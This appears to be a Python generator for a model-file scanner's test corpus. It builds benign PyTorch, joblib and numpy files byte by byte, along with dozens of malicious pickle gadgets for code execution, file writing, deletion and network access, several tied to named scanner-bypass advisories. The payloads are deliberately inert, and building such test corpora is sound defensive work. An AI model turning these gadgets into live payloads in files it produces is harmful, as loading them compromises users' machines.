#!/usr/bin/env python3
"""Write aigis's pickle-family sample set.

    python3 samples/generate.py OUTDIR [--demo] [--real] [--selftest]

Every file is written byte by byte (a small opcode writer below, zip/tar/npy
containers assembled by hand), so each technique is exact and re-running the
script gives identical bytes. OUTDIR/manifest.json lists every file:

    {"path": relative path, "expect": clean|unapproved|malicious|inconclusive|
     flagged|skip, "technique": short id, "note": one line}

"flagged" means anything but clean is acceptable; "skip" means the file is not a
model file at all (a scanner may ignore it or call it clean, never malicious).

Nothing here loads a malicious sample. The payloads are harmless even if someone
did load one: they run `echo aigis-sample-payload`, touch a path that does not
exist, or connect to 127.0.0.1 port 9.

Stdlib only (Python 3.11: the marshal sample is version-specific), except
--real, which uses numpy, scikit-learn, joblib, scipy and pandas to write real
benign models (and lz4 for an lz4-compressed joblib file, when installed), and
safetensors and gguf for real tensor files (samples/tensor_files.py).
--real, which uses numpy, scikit-learn, joblib, scipy, pandas and onnx to write
real benign models (and lz4 for an lz4-compressed joblib file, when installed).
The ONNX samples are written by gen_onnx.py next to this file, the TFLite
ones by gen_tflite.py (under --real also with FlatBuffers' own builder and
the `tflite` package's generated schema).
--selftest checks the output without executing anything: every pickle stream is
disassembled with pickletools, the benign ones are loaded with an unpickler
whose find_class returns inert stand-ins, and the parser tricks are re-built
around a probe global and loaded the same way to prove CPython follows them.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import pickletools
import struct
import sys
import tarfile
import zlib

import tensor_files  # safetensors and GGUF samples (samples/tensor_files.py)
import gen_onnx  # samples/gen_onnx.py: the ONNX samples
import gen_tflite  # samples/gen_tflite.py: the TFLite samples

CMD = "echo aigis-sample-payload"
ARGV = ["echo", "aigis-sample-payload"]
PYCODE = "__import__('os').system('echo aigis-sample-payload')"
NOPATH = "/nonexistent/aigis-sample-dummy-path"


# --------------------------------------------------------------------------
# The opcode writer
# --------------------------------------------------------------------------

class E:
    """An expression: a function that emits opcodes leaving one value on the stack."""

    def __init__(self, f):
        self.f = f


def Call(mod, name, *args):
    return E(lambda p: p.call(mod, name, *args))


def Glob(mod, name):
    return E(lambda p: p.glob(mod, name))


class Pk:
    """Writes pickle opcodes. proto=None writes no PROTO header (protocol 0/1 style)."""

    def __init__(self, proto=2, header=True):
        self.proto = proto
        self.out = bytearray()
        if header and proto >= 2:
            self.out += b"\x80" + bytes([proto])

    def raw(self, b):
        self.out += b
        return self

    def data(self):
        return bytes(self.out)

    # structure
    def mark(self): return self.raw(b"(")
    def stop(self): return self.raw(b".")
    def pop(self): return self.raw(b"0")
    def pop_mark(self): return self.raw(b"1")
    def dup(self): return self.raw(b"2")
    def none(self): return self.raw(b"N")
    def reduce(self): return self.raw(b"R")
    def build(self): return self.raw(b"b")
    def obj(self): return self.raw(b"o")
    def newobj(self): return self.raw(b"\x81")
    def newobj_ex(self): return self.raw(b"\x92")
    def stack_global(self): return self.raw(b"\x93")
    def memoize(self): return self.raw(b"\x94")
    def tuple(self): return self.raw(b"t")
    def empty_tuple(self): return self.raw(b")")
    def empty_list(self): return self.raw(b"]")
    def empty_dict(self): return self.raw(b"}")
    def setitem(self): return self.raw(b"s")
    def setitems(self): return self.raw(b"u")
    def append(self): return self.raw(b"a")
    def appends(self): return self.raw(b"e")
    def binpersid(self): return self.raw(b"Q")

    def frame(self, n): return self.raw(b"\x95" + struct.pack("<Q", n))
    def ext1(self, c): return self.raw(b"\x82" + bytes([c]))
    def ext2(self, c): return self.raw(b"\x83" + struct.pack("<H", c))
    def ext4(self, c): return self.raw(b"\x84" + struct.pack("<i", c))

    def global_(self, mod, name):
        return self.raw(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")

    def inst(self, mod, name):
        return self.raw(b"i" + mod.encode() + b"\n" + name.encode() + b"\n")

    def glob(self, mod, name):
        """The way a pickler of this protocol names a global."""
        if self.proto >= 4:
            return self.str(mod).str(name).stack_global()
        return self.global_(mod, name)

    def put(self, i):
        if self.proto == 0:
            return self.raw(b"p%d\n" % i)
        if i < 256:
            return self.raw(b"q" + bytes([i]))
        return self.raw(b"r" + struct.pack("<I", i))

    def get(self, i):
        if self.proto == 0:
            return self.raw(b"g%d\n" % i)
        if i < 256:
            return self.raw(b"h" + bytes([i]))
        return self.raw(b"j" + struct.pack("<I", i))

    # scalars
    def bool(self, v):
        if self.proto >= 2:
            return self.raw(b"\x88" if v else b"\x89")
        return self.raw(b"I01\n" if v else b"I00\n")

    def int(self, n):
        if self.proto == 0:
            return self.raw(b"I%d\n" % n)
        if 0 <= n < 256:
            return self.raw(b"K" + bytes([n]))
        if 0 <= n < 65536:
            return self.raw(b"M" + struct.pack("<H", n))
        if -2**31 <= n < 2**31:
            return self.raw(b"J" + struct.pack("<i", n))
        if self.proto >= 2:
            enc = pickle.encode_long(n)
            if len(enc) < 256:
                return self.raw(b"\x8a" + bytes([len(enc)]) + enc)
            return self.raw(b"\x8b" + struct.pack("<i", len(enc)) + enc)
        return self.raw(b"L%dL\n" % n)

    def float(self, f):
        if self.proto == 0:
            return self.raw(b"F" + repr(f).encode() + b"\n")
        return self.raw(b"G" + struct.pack(">d", f))

    def str(self, s):
        if self.proto == 0:
            esc = (s.replace("\\", "\\u005c").replace("\0", "\\u0000")
                   .replace("\n", "\\u000a").replace("\r", "\\u000d").replace("\x1a", "\\u001a"))
            return self.raw(b"V" + esc.encode("raw-unicode-escape") + b"\n")
        b = s.encode("utf-8")
        if self.proto >= 4 and len(b) < 256:
            return self.raw(b"\x8c" + bytes([len(b)]) + b)
        return self.raw(b"X" + struct.pack("<I", len(b)) + b)

    def pystring(self, s):
        """Python 2 STRING opcode (text, quoted)."""
        return self.raw(b"S" + repr(s).encode("ascii") + b"\n")

    def binbytes(self, b):
        assert self.proto >= 3
        if len(b) < 256:
            return self.raw(b"C" + bytes([len(b)]) + b)
        if len(b) < 2**32:
            return self.raw(b"B" + struct.pack("<I", len(b)) + b)
        return self.raw(b"\x8e" + struct.pack("<Q", len(b)) + b)

    def val(self, v):
        if isinstance(v, E):
            v.f(self)
        elif v is None:
            self.none()
        elif v is True or v is False:
            self.bool(v)
        elif isinstance(v, int):
            self.int(v)
        elif isinstance(v, float):
            self.float(v)
        elif isinstance(v, str):
            self.str(v)
        elif isinstance(v, (bytes, bytearray)):
            self.binbytes(bytes(v))
        elif isinstance(v, tuple):
            self.tup(v)
        elif isinstance(v, list):
            if self.proto == 0:
                self.mark()
                for x in v:
                    self.val(x)
                self.raw(b"l")
            else:
                self.empty_list()
                if v:
                    self.mark()
                    for x in v:
                        self.val(x)
                    self.appends()
        elif isinstance(v, dict):
            if self.proto == 0:
                self.mark().raw(b"d")
                for k, x in v.items():
                    self.val(k).val(x).setitem()
            else:
                self.empty_dict()
                if v:
                    self.mark()
                    for k, x in v.items():
                        self.val(k).val(x)
                    self.setitems()
        else:
            raise TypeError(type(v))
        return self

    def tup(self, items):
        items = tuple(items)
        if not items and self.proto >= 1:
            return self.empty_tuple()
        if self.proto >= 2 and len(items) <= 3:
            for x in items:
                self.val(x)
            return self.raw({1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(items)])
        self.mark()
        for x in items:
            self.val(x)
        return self.tuple()

    def call(self, mod, name, *args):
        """mod.name(*args) the way __reduce__ pickles it: global, args tuple, REDUCE."""
        self.glob(mod, name)
        self.tup(args)
        return self.reduce()

    def apply(self, fn, *args):
        """fn(*args) where fn is an expression."""
        self.val(fn)
        self.tup(args)
        return self.reduce()


def simple(proto, mod, name, *args):
    return Pk(proto).call(mod, name, *args).stop().data()


def os_system_pickle(proto=2, cmd=CMD):
    return simple(proto, "os", "system", cmd)


# --------------------------------------------------------------------------
# Containers: zip (hand-built, tamperable), tar, npy, torch, joblib
# --------------------------------------------------------------------------

DOS_TIME, DOS_DATE = 0, (1 << 5) | 1  # 1980-01-01 00:00:00


def zip_build(entries, prefix=b"", align=0):
    """entries: dicts with name, data and optional method (0/8), crc, flag,
    local_name, comp (precomputed compressed bytes), usize (declared size)."""
    out = bytearray(prefix)
    central = bytearray()
    for e in entries:
        name = e["name"].encode()
        lname = e.get("local_name", e["name"]).encode()
        data = e["data"]
        method = e.get("method", 0)
        if "comp" in e:
            comp = e["comp"]
        elif method == 8:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = co.compress(data) + co.flush()
        else:
            comp = data
        crc = e.get("crc", zlib.crc32(data) & 0xFFFFFFFF)
        usize = e.get("usize", len(data))
        flag = e.get("flag", 0)
        offset = len(out)
        extra = b""
        if align and method == 0:
            start = offset + 30 + len(lname)
            pad = (-(start + 4)) % align
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20 if method == 0 else 20, flag, method,
                           DOS_TIME, DOS_DATE, crc, len(comp), usize, len(lname), len(extra))
        out += lname + extra + comp
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flag, method,
                               DOS_TIME, DOS_DATE, crc, len(comp), usize, len(name), 0, 0, 0, 0,
                               0o100644 << 16, offset)
        central += name
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries),
                       len(central), cd_off, 0)
    return bytes(out)


def tar_build(members, compress=None):
    """members: list of (name, bytes) or (name, bytes, type flag). Deterministic tar
    (mtime 0, no owner)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for name, data, *kind in members:
            ti = tarfile.TarInfo(name)
            if kind:
                ti.type = kind[0]
            ti.size = len(data)
            ti.mtime = 0
            ti.mode = 0o644
            ti.uname = ti.gname = ""
            tf.addfile(ti, io.BytesIO(data))
    raw = buf.getvalue()
    if compress == "gz":
        return gzip_bytes(raw)
    return raw


def gzip_bytes(raw):
    b = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=b, mtime=0) as g:
        g.write(raw)
    return b.getvalue()


def npy_build(descr, shape, payload, fortran=False):
    if len(shape) == 1:
        shp = "(%d,)" % shape[0]
    else:
        shp = "(" + ", ".join("%d" % s for s in shape) + ")"
    header = "{'descr': %r, 'fortran_order': %s, 'shape': %s, }" % (descr, fortran, shp)
    hlen = len(header) + 1
    pad = (-(10 + hlen)) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + payload


def np_dtype(p, code, byteorder="<", np2=False):
    """numpy.dtype(code, False, True) + BUILD of its state, as numpy pickles it."""
    p.call("numpy", "dtype", code, False, True)
    p.tup((3, byteorder, None, None, None, -1, -1, 0 if code not in ("O8",) else 63))
    return p.build()


def np_array(p, code, shape, raw, np2=False, byteorder="<"):
    """An ndarray the way ndarray.__reduce__ pickles it (no numpy needed)."""
    mod = "numpy._core.multiarray" if np2 else "numpy.core.multiarray"
    p.glob(mod, "_reconstruct")
    p.tup((Glob("numpy", "ndarray"), (0,), latin1_bytes(p, b"b")))
    p.reduce()
    p.tup((1, tuple(shape), E(lambda q: np_dtype(q, code, byteorder)), False,
           latin1_bytes(p, raw)))
    return p.build()


def latin1_bytes(p, raw):
    """bytes as the pickler of p's protocol writes them (protocol < 3: _codecs.encode(str, 'latin1'))."""
    if p.proto >= 3:
        return raw
    return Call("_codecs", "encode", raw.decode("latin1"), "latin1")


def f32(values):
    return struct.pack("<%df" % len(values), *values)


def f64(values):
    return struct.pack("<%dd" % len(values), *values)


# ---- PyTorch --------------------------------------------------------------

def torch_tensor(p, key, shape, storage="FloatStorage", numel=None, legacy=False):
    """torch._utils._rebuild_tensor_v2(storage-persid, 0, size, stride, False, OrderedDict())."""
    if numel is None:
        numel = 1
        for s in shape:
            numel *= s
    stride, acc = [], 1
    for s in reversed(shape):
        stride.insert(0, acc)
        acc *= s
    p.global_("torch._utils", "_rebuild_tensor_v2")
    p.mark()
    pid = ("storage", Glob("torch", storage), key, "cpu", numel) + ((None,) if legacy else ())
    p.tup(pid).binpersid()
    p.int(0).tup(tuple(shape)).tup(tuple(stride)).bool(False)
    p.call("collections", "OrderedDict")
    p.tuple().reduce()
    return p


def torch_state_dict_pickle(tensors, legacy=False, metadata=True):
    """tensors: list of (name, key, shape). An OrderedDict state_dict, protocol 2."""
    p = Pk(2)
    p.call("collections", "OrderedDict")
    p.mark()
    for name, key, shape in tensors:
        p.str(name)
        torch_tensor(p, key, shape, legacy=legacy)
    p.setitems()
    if metadata:
        p.empty_dict().mark().str("_metadata")
        p.call("collections", "OrderedDict")
        p.mark().str("").empty_dict().mark().str("version").int(1).setitems().setitems()
        p.setitems().build()
    return p.stop().data()


def torch_zip(pickle_bytes, storages, archive="archive", extra_members=(), tamper=None):
    """A torch.save zip: data.pkl, .format_version, .storage_alignment, byteorder,
    data/<key>..., version, .data/serialization_id; stored, 64-byte aligned."""
    ents = [{"name": f"{archive}/data.pkl", "data": pickle_bytes}]
    ents += [{"name": f"{archive}/.format_version", "data": b"1"},
             {"name": f"{archive}/.storage_alignment", "data": b"64"},
             {"name": f"{archive}/byteorder", "data": b"little"}]
    for key, raw in storages:
        ents.append({"name": f"{archive}/data/{key}", "data": raw})
    for name, raw in extra_members:
        ents.append({"name": f"{archive}/{name}", "data": raw})
    ents += [{"name": f"{archive}/version", "data": b"3\n"},
             {"name": f"{archive}/.data/serialization_id", "data": b"1234567890123456789012345678901234567890"}]
    if tamper:
        tamper(ents)
    return zip_build(ents, align=64)


BENIGN_TENSORS = [("fc1.weight", "0", (4, 3)), ("fc1.bias", "1", (4,)), ("fc2.weight", "2", (2, 4)),
                  ("fc2.bias", "3", (2,))]


def benign_storages():
    out = []
    for i, (_, key, shape) in enumerate(BENIGN_TENSORS):
        n = 1
        for s in shape:
            n *= s
        out.append((key, f32([(j % 7) * 0.125 - 0.25 + i for j in range(n)])))
    return out


def benign_torch_zip(archive="archive"):
    return torch_zip(torch_state_dict_pickle(BENIGN_TENSORS), benign_storages(), archive)


def malicious_torch_pickle():
    """A state_dict pickle that calls os.system on the way (protocol 2, like torch.save)."""
    p = Pk(2)
    p.call("collections", "OrderedDict")
    p.mark().str("fc1.weight")
    torch_tensor(p, "0", (4, 3))
    p.str("fc1.bias")
    p.call("os", "system", CMD)
    p.setitems().stop()
    return p.data()


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy(main_pickle, storages, magic_pickle=None):
    """torch<1.6 (_use_new_zipfile_serialization=False): magic, protocol 1001,
    sys_info, object, storage keys; then per storage an 8-byte numel and the bytes."""
    out = bytearray()
    out += magic_pickle if magic_pickle is not None else Pk(2).int(LEGACY_MAGIC).stop().data()
    out += Pk(2).int(1001).stop().data()
    out += Pk(2).val({"protocol_version": 1001, "little_endian": True,
                      "type_sizes": {"short": 2, "int": 4, "long": 4}}).stop().data()
    out += main_pickle
    out += Pk(2).val([k for k, _ in storages]).stop().data()
    for _, raw in storages:
        out += struct.pack("<q", len(raw) // 4) + raw
    return bytes(out)


def torch_legacy_tar(main_pickle):
    """The pre-0.4 tar layout read by torch's legacy loader: sys_info, pickle, storages, tensors."""
    sysinfo = Pk(2).val({"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 4}}).stop().data()
    storages = bytearray(Pk(2).int(1).stop().data())
    storages += Pk(2).tup(("0", "cpu", Glob("torch", "FloatStorage"))).stop().data()
    storages += struct.pack("<q", 4) + f32([0.5, 1.5, 2.5, 3.5])
    tensors = bytearray(Pk(2).int(1).stop().data())
    tensors += Pk(2).tup(("t0", "0", Glob("torch", "FloatTensor"))).stop().data()
    tensors += struct.pack("<i", 1) + b"\0" * 4 + struct.pack("<q", 4) + struct.pack("<q", 1) + struct.pack("<q", 0)
    return tar_build([("sys_info", sysinfo), ("pickle", main_pickle), ("storages", bytes(storages)),
                      ("tensors", bytes(tensors))])


def torchscript_zip(constants_pkl, archive="model"):
    data = Pk(2)
    data.global_("__torch__", "Net").empty_tuple().newobj()
    data.empty_dict().mark().str("training").bool(False).str("weight")
    torch_tensor(data, "0", (2, 3))
    data.setitems().build().stop()
    code = (b"class Net(Module):\n  __parameters__ = [\"weight\", ]\n  __buffers__ = []\n"
            b"  weight : Tensor\n  training : bool\n"
            b"  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n"
            b"    return torch.matmul(x, torch.t(self.weight))\n")
    debug = Pk(2).tup(((0, ("code", 0, 10)),)).stop().data()
    ents = [{"name": f"{archive}/data.pkl", "data": data.data()},
            {"name": f"{archive}/code/__torch__.py", "data": code},
            {"name": f"{archive}/code/__torch__.py.debug_pkl", "data": debug},
            {"name": f"{archive}/constants.pkl", "data": constants_pkl},
            {"name": f"{archive}/data/0", "data": f32([0.1, 0.2, 0.3, 0.4, 0.5, 0.6])},
            {"name": f"{archive}/version", "data": b"4\n"},
            {"name": f"{archive}/.data/version", "data": b"4\n"}]
    return zip_build(ents, align=64)


# ---- joblib ---------------------------------------------------------------

class JoblibWriter(Pk):
    """joblib.numpy_pickle layout: each ndarray becomes a NumpyArrayWrapper
    (NEWOBJ + BUILD of its metadata) followed, outside any pickle opcode, by one
    byte of padding length, that many 0xff bytes, and the raw array bytes (object
    arrays: a nested protocol-5 pickle instead)."""

    def __init__(self):
        super().__init__(4)

    def array(self, code, shape, raw=None, nested_pickle=None):
        self.glob("joblib.numpy_pickle", "NumpyArrayWrapper").empty_tuple().newobj()
        self.empty_dict().mark()
        self.str("subclass").glob("numpy", "ndarray")
        self.str("shape").tup(tuple(shape))
        self.str("order").str("C")
        self.str("dtype")
        np_dtype(self, code, "|" if code in ("O8", "i1", "u1", "b1") else "<")
        self.str("allow_mmap").bool(nested_pickle is None)
        self.str("numpy_array_alignment_bytes").int(16)
        self.setitems().build()
        if nested_pickle is not None:
            self.raw(nested_pickle)
        else:
            pad = 16 - ((len(self.out) + 1) % 16)
            self.raw(bytes([pad]) + b"\xff" * pad + raw)
        return self


def joblib_estimator(payload=None, object_array=None):
    """A LogisticRegression-shaped object as joblib.dump writes it (synthetic, no sklearn)."""
    j = JoblibWriter()
    j.glob("sklearn.linear_model._logistic", "LogisticRegression").empty_tuple().newobj()
    j.empty_dict().mark()
    for k, v in [("penalty", "l2"), ("dual", False), ("tol", 0.0001), ("C", 1.0),
                 ("fit_intercept", True), ("intercept_scaling", 1), ("class_weight", None),
                 ("random_state", 0), ("solver", "lbfgs"), ("max_iter", 100), ("verbose", 0),
                 ("warm_start", False), ("n_jobs", None), ("l1_ratio", None), ("n_features_in_", 4)]:
        j.str(k).val(v)
    j.str("classes_")
    j.array("i8", (3,), struct.pack("<3q", 0, 1, 2))
    j.str("n_iter_")
    j.array("i4", (1,), struct.pack("<i", 17))
    j.str("coef_")
    j.array("f8", (3, 4), f64([0.25 * i - 1.0 for i in range(12)]))
    j.str("intercept_")
    j.array("f8", (3,), f64([0.1, -0.2, 0.1]))
    if object_array is not None:
        j.str("feature_names_in_")
        j.array("O8", (2,), nested_pickle=object_array)
    if payload is not None:
        j.str("_aigis_sample")
        payload(j)
    j.str("_sklearn_version").str("1.5.0")
    j.setitems().build().stop()
    return j.data()


def benign_object_array_pickle(np2=True):
    """numpy pickles an object array as _reconstruct + BUILD with a list of the objects."""
    p = Pk(5)
    mod = "numpy._core.multiarray" if np2 else "numpy.core.multiarray"
    p.glob(mod, "_reconstruct")
    p.tup((Glob("numpy", "ndarray"), (0,), b"b")).reduce()
    p.tup((1, (2,), E(lambda q: np_dtype(q, "O8", "|")), False, ["sepal_length", "sepal_width"]))
    p.build().stop()
    return p.data()


def joblib_compress(raw, kind):
    if kind == "zlib":
        co = zlib.compressobj(3, zlib.DEFLATED, 15)
        return co.compress(raw) + co.flush()
    if kind == "gzip":
        co = zlib.compressobj(3, zlib.DEFLATED, 31)
        return co.compress(raw) + co.flush()
    if kind == "bz2":
        return bz2.compress(raw, 3)
    if kind == "xz":
        return lzma.compress(raw, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64, preset=3)
    if kind == "lzma":
        return lzma.compress(raw, format=lzma.FORMAT_ALONE, preset=3)
    if kind == "lz4":
        import lz4.frame  # only under --real
        return lz4.frame.compress(raw, compression_level=3)
    raise ValueError(kind)


# --------------------------------------------------------------------------
# Sample registry
# --------------------------------------------------------------------------

class Out:
    def __init__(self, root):
        self.root = root
        self.items = []

    def add(self, path, data, expect, technique, note):
        full = os.path.join(self.root, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(data)
        assert path not in [i["path"] for i in self.items], path
        self.items.append({"path": path, "expect": expect, "technique": technique, "note": note})

    def write_manifest(self):
        with open(os.path.join(self.root, "manifest.json"), "w") as f:
            json.dump(self.items, f, indent=1)
            f.write("\n")


# ---- malicious single gadgets ---------------------------------------------

def gadgets():
    """(file stem, protocol, builder(proto) -> bytes, note)"""
    g = []

    def add(stem, proto, build, note):
        g.append((stem, proto, build, note))

    add("os_system", 0, lambda p: simple(p, "os", "system", CMD), "os.system(cmd), protocol 0 text")
    add("posix_system", 1, lambda p: simple(p, "posix", "system", CMD), "posix.system, how os.system pickles on Linux")
    add("nt_system", 2, lambda p: simple(p, "nt", "system", CMD), "nt.system, how os.system pickles on Windows")
    add("subprocess_Popen", 3, lambda p: simple(p, "subprocess", "Popen", ARGV), "subprocess.Popen(argv)")
    add("subprocess_check_output", 4, lambda p: simple(p, "subprocess", "check_output", ARGV), "subprocess.check_output")
    add("subprocess_run", 5, lambda p: simple(p, "subprocess", "run", ARGV), "subprocess.run")
    add("subprocess_getoutput", 1, lambda p: simple(p, "subprocess", "getoutput", CMD), "subprocess.getoutput (shell)")
    add("os_popen", 2, lambda p: simple(p, "os", "popen", CMD), "os.popen")
    add("os_execvp", 3, lambda p: simple(p, "os", "execvp", "echo", ARGV), "os.execvp replaces the loading process")
    add("builtins_eval", 2, lambda p: simple(p, "builtins", "eval", PYCODE), "builtins.eval of Python source")
    add("builtins_exec", 4, lambda p: simple(p, "builtins", "exec", PYCODE), "builtins.exec of Python source")
    add("builtins_compile_exec", 3,
        lambda p: simple(p, "builtins", "exec", Call("builtins", "compile", PYCODE, "<s>", "exec")),
        "exec(compile(src))")

    def getattr_chain(p):
        q = Pk(p)
        q.apply(Call("builtins", "getattr", Call("builtins", "__import__", "os"), "system"), CMD)
        return q.stop().data()
    add("builtins_getattr_import_chain", 2, getattr_chain, "getattr(__import__('os'),'system')(cmd)")
    add("builtins___import__", 1, lambda p: simple(p, "builtins", "__import__", "os"), "builtins.__import__ alone")
    add("runpy__run_code", 2, lambda p: simple(p, "runpy", "_run_code", PYCODE, {}), "runpy._run_code exec()s source")
    add("pty_spawn", 3, lambda p: simple(p, "pty", "spawn", ARGV), "pty.spawn(argv)")
    add("pydoc_pipepager", 2, lambda p: simple(p, "pydoc", "pipepager", "aigis", CMD), "pydoc.pipepager(text, cmd) runs cmd in a shell")
    add("timeit_timeit", 4,
        lambda p: simple(p, "timeit", "timeit", PYCODE, "pass", Glob("time", "perf_counter"), 1),
        "timeit.timeit(stmt) compiles and runs stmt (picklescan GHSA-v7x6-rv5q-mhwc)")
    add("cProfile_run", 2, lambda p: simple(p, "cProfile", "run", PYCODE), "cProfile.run exec()s source")
    add("cProfile_runctx", 3, lambda p: simple(p, "cProfile", "runctx", PYCODE, {}, {}), "cProfile.runctx (GHSA-9w88-8rmg-7g2p)")

    def method_on_instance(mod, cls, meth, ctor_args, *args):
        def build(p):
            q = Pk(p)
            q.glob(mod, f"{cls}.{meth}")
            q.tup((Call(mod, cls, *ctor_args),) + args).reduce()
            return q.stop().data()
        return build
    add("profile_Profile_run", 4, method_on_instance("profile", "Profile", "run", (), PYCODE),
        "profile.Profile().run(src) via dotted STACK_GLOBAL (GHSA-x696-vm39-cp64)")
    add("code_InteractiveInterpreter_runcode", 4,
        method_on_instance("code", "InteractiveInterpreter", "runcode", (), PYCODE),
        "code.InteractiveInterpreter.runcode exec()s source")
    add("bdb_Bdb_run", 4, method_on_instance("bdb", "Bdb", "run", (), PYCODE),
        "bdb.Bdb.run exec()s source under a no-op tracer")
    add("trace_Trace_run", 5, method_on_instance("trace", "Trace", "run", (0, 0), PYCODE),
        "trace.Trace.run exec()s source (GHSA-5qwp-399c-mjwf)")
    add("doctest_debug_script", 2, lambda p: simple(p, "doctest", "debug_script", PYCODE),
        "doctest.debug_script runs source under pdb (GHSA-fqq6-7vqf-w3fg)")
    add("asyncio_UnixSubprocessTransport_start", 4,
        lambda p: simple(p, "asyncio.unix_events", "_UnixSubprocessTransport._start",
                         0, CMD, True, None, None, None, 0),
        "_UnixSubprocessTransport._start calls subprocess.Popen(shell=True) (CVE-2025-10157)")
    add("_posixsubprocess_fork_exec", 3,
        lambda p: simple(p, "_posixsubprocess", "fork_exec", [b"/bin/echo", b"aigis-sample-payload"],
                         [b"/bin/echo"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1,
                         False, False, -1, None, None, None, -1, None),
        "_posixsubprocess.fork_exec, the C primitive under subprocess (argument list of 3.11)")
    add("ctypes_CDLL_system", 4,
        lambda p: Pk(p).apply(Call("builtins", "getattr", Call("ctypes", "CDLL", None), "system"),
                              b"echo aigis-sample-payload").stop().data(),
        "getattr(ctypes.CDLL(None),'system')(cmd): libc system() through ctypes")
    add("importlib_import_module", 2,
        lambda p: Pk(p).apply(Call("builtins", "getattr", Call("importlib", "import_module", "os"), "system"), CMD).stop().data(),
        "importlib.import_module('os') then getattr (picklescan #66)")
    add("operator_methodcaller", 2,
        lambda p: Pk(p).apply(Call("operator", "methodcaller", "system", CMD),
                              Call("importlib", "import_module", "os")).stop().data(),
        "operator.methodcaller('system', cmd)(os module) (GHSA-m273-6v24-x4m4)")
    add("operator_attrgetter", 3,
        lambda p: Pk(p).apply(E(lambda q: q.apply(Call("_operator", "attrgetter", "system"),
                                                  Call("importlib", "import_module", "os"))), CMD).stop().data(),
        "_operator.attrgetter('system')(os module)(cmd)")
    add("functools_partial_os_system", 2,
        lambda p: Pk(p).apply(Call("functools", "partial", Glob("os", "system"), CMD)).stop().data(),
        "functools.partial(os.system, cmd)() - the call goes through partial")
    add("shutil_rmtree", 1, lambda p: simple(p, "shutil", "rmtree", NOPATH),
        "shutil.rmtree on a path that does not exist (file destruction primitive)")
    add("webbrowser_open", 2, lambda p: simple(p, "webbrowser", "open", "http://127.0.0.1:9/aigis-sample-payload"),
        "webbrowser.open launches a browser process")
    add("socket_create_connection", 2, lambda p: simple(p, "socket", "create_connection", ("127.0.0.1", 9)),
        "socket.create_connection to 127.0.0.1:9 (network primitive)")
    add("numpy_testing_runstring", 2,
        lambda p: simple(p, "numpy.testing._private.utils", "runstring", PYCODE, {}),
        "numpy.testing._private.utils.runstring exec()s source")
    add("torch_jit_execWrapper", 2,
        lambda p: simple(p, "torch.jit.unsupported_tensor_ops", "execWrapper", PYCODE, {}, {}),
        "torch.jit.unsupported_tensor_ops.execWrapper exec()s source")
    add("torch_bottleneck_run_autograd_prof", 4,
        lambda p: simple(p, "torch.utils.bottleneck.__main__", "run_autograd_prof", PYCODE, {}),
        "torch.utils.bottleneck.__main__.run_autograd_prof exec()s source (GHSA-4whj-rm5r-c2v8)")
    add("pip_main", 2, lambda p: simple(p, "pip", "main", ["install", "--no-index", "aigis-sample-nonexistent"]),
        "pip.main installs packages (CVE-2025-1716)")
    add("ensurepip__run_pip", 2, lambda p: simple(p, "ensurepip", "_run_pip", ["--version"]),
        "ensurepip._run_pip runs pip in a subprocess (GHSA-xp4f-hrf8-rxw7)")
    add("idlelib_autocomplete_get_entity", 4,
        lambda p: simple(p, "idlelib.autocomplete", "AutoComplete.get_entity", None, PYCODE),
        "idlelib AutoComplete.get_entity eval()s its argument (GHSA-6w4w-5w54-rjvr)")
    add("lib2to3_Grammar_loads", 4,
        lambda p: simple(p, "lib2to3.pgen2.grammar", "Grammar.loads", None, os_system_pickle(2)),
        "lib2to3 Grammar.loads is pickle.loads of its argument (GHSA-f54q-57x4-jg88)")
    add("uuid__get_command_stdout", 2, lambda p: simple(p, "uuid", "_get_command_stdout", "echo", "aigis-sample-payload"),
        "uuid._get_command_stdout runs a command")
    add("_osx_support__read_output", 2, lambda p: simple(p, "_osx_support", "_read_output", CMD),
        "_osx_support._read_output runs a shell command")
    add("multiprocessing_util_spawnv_passfds", 3,
        lambda p: simple(p, "multiprocessing.util", "spawnv_passfds", "/bin/echo", ARGV, ()),
        "multiprocessing.util.spawnv_passfds spawns a program")
    add("imaplib_IMAP4_stream", 2, lambda p: simple(p, "imaplib", "IMAP4_stream", CMD),
        "imaplib.IMAP4_stream(cmd) runs cmd with Popen(shell=True)")
    add("logging_config_listen", 2, lambda p: simple(p, "logging.config", "listen", 9),
        "logging.config.listen: a config server whose configs can name any callable")
    add("marshal_FunctionType", 3,
        lambda p: Pk(p).apply(Call("types", "FunctionType",
                                   Call("marshal", "loads", marshal.dumps(compile(PYCODE, "<aigis-sample>", "exec"))),
                                   {})).stop().data(),
        "types.FunctionType(marshal.loads(code object), {})(): bytecode, no source (3.11 marshal)")
    add("pkgutil_resolve_name", 2,
        lambda p: Pk(p).apply(Call("pkgutil", "resolve_name", "os:system"), CMD).stop().data(),
        "pkgutil.resolve_name('os:system') reaches any callable (GHSA-vvpj-8cmc-gx39)")
    add("distutils_write_file", 2,
        lambda p: simple(p, "distutils.file_util", "write_file", "/tmp/aigis-sample-payload.txt", ["aigis-sample-payload"]),
        "distutils.file_util.write_file writes any file (CVE-2025-10155 family)")
    add("io_FileIO_write", 4,
        lambda p: Pk(p).apply(Call("builtins", "getattr", Call("_io", "FileIO", "/tmp/aigis-sample-payload.txt", "w"), "write"),
                              b"aigis-sample-payload\n").stop().data(),
        "_io.FileIO(path,'w').write(...) file write primitive")
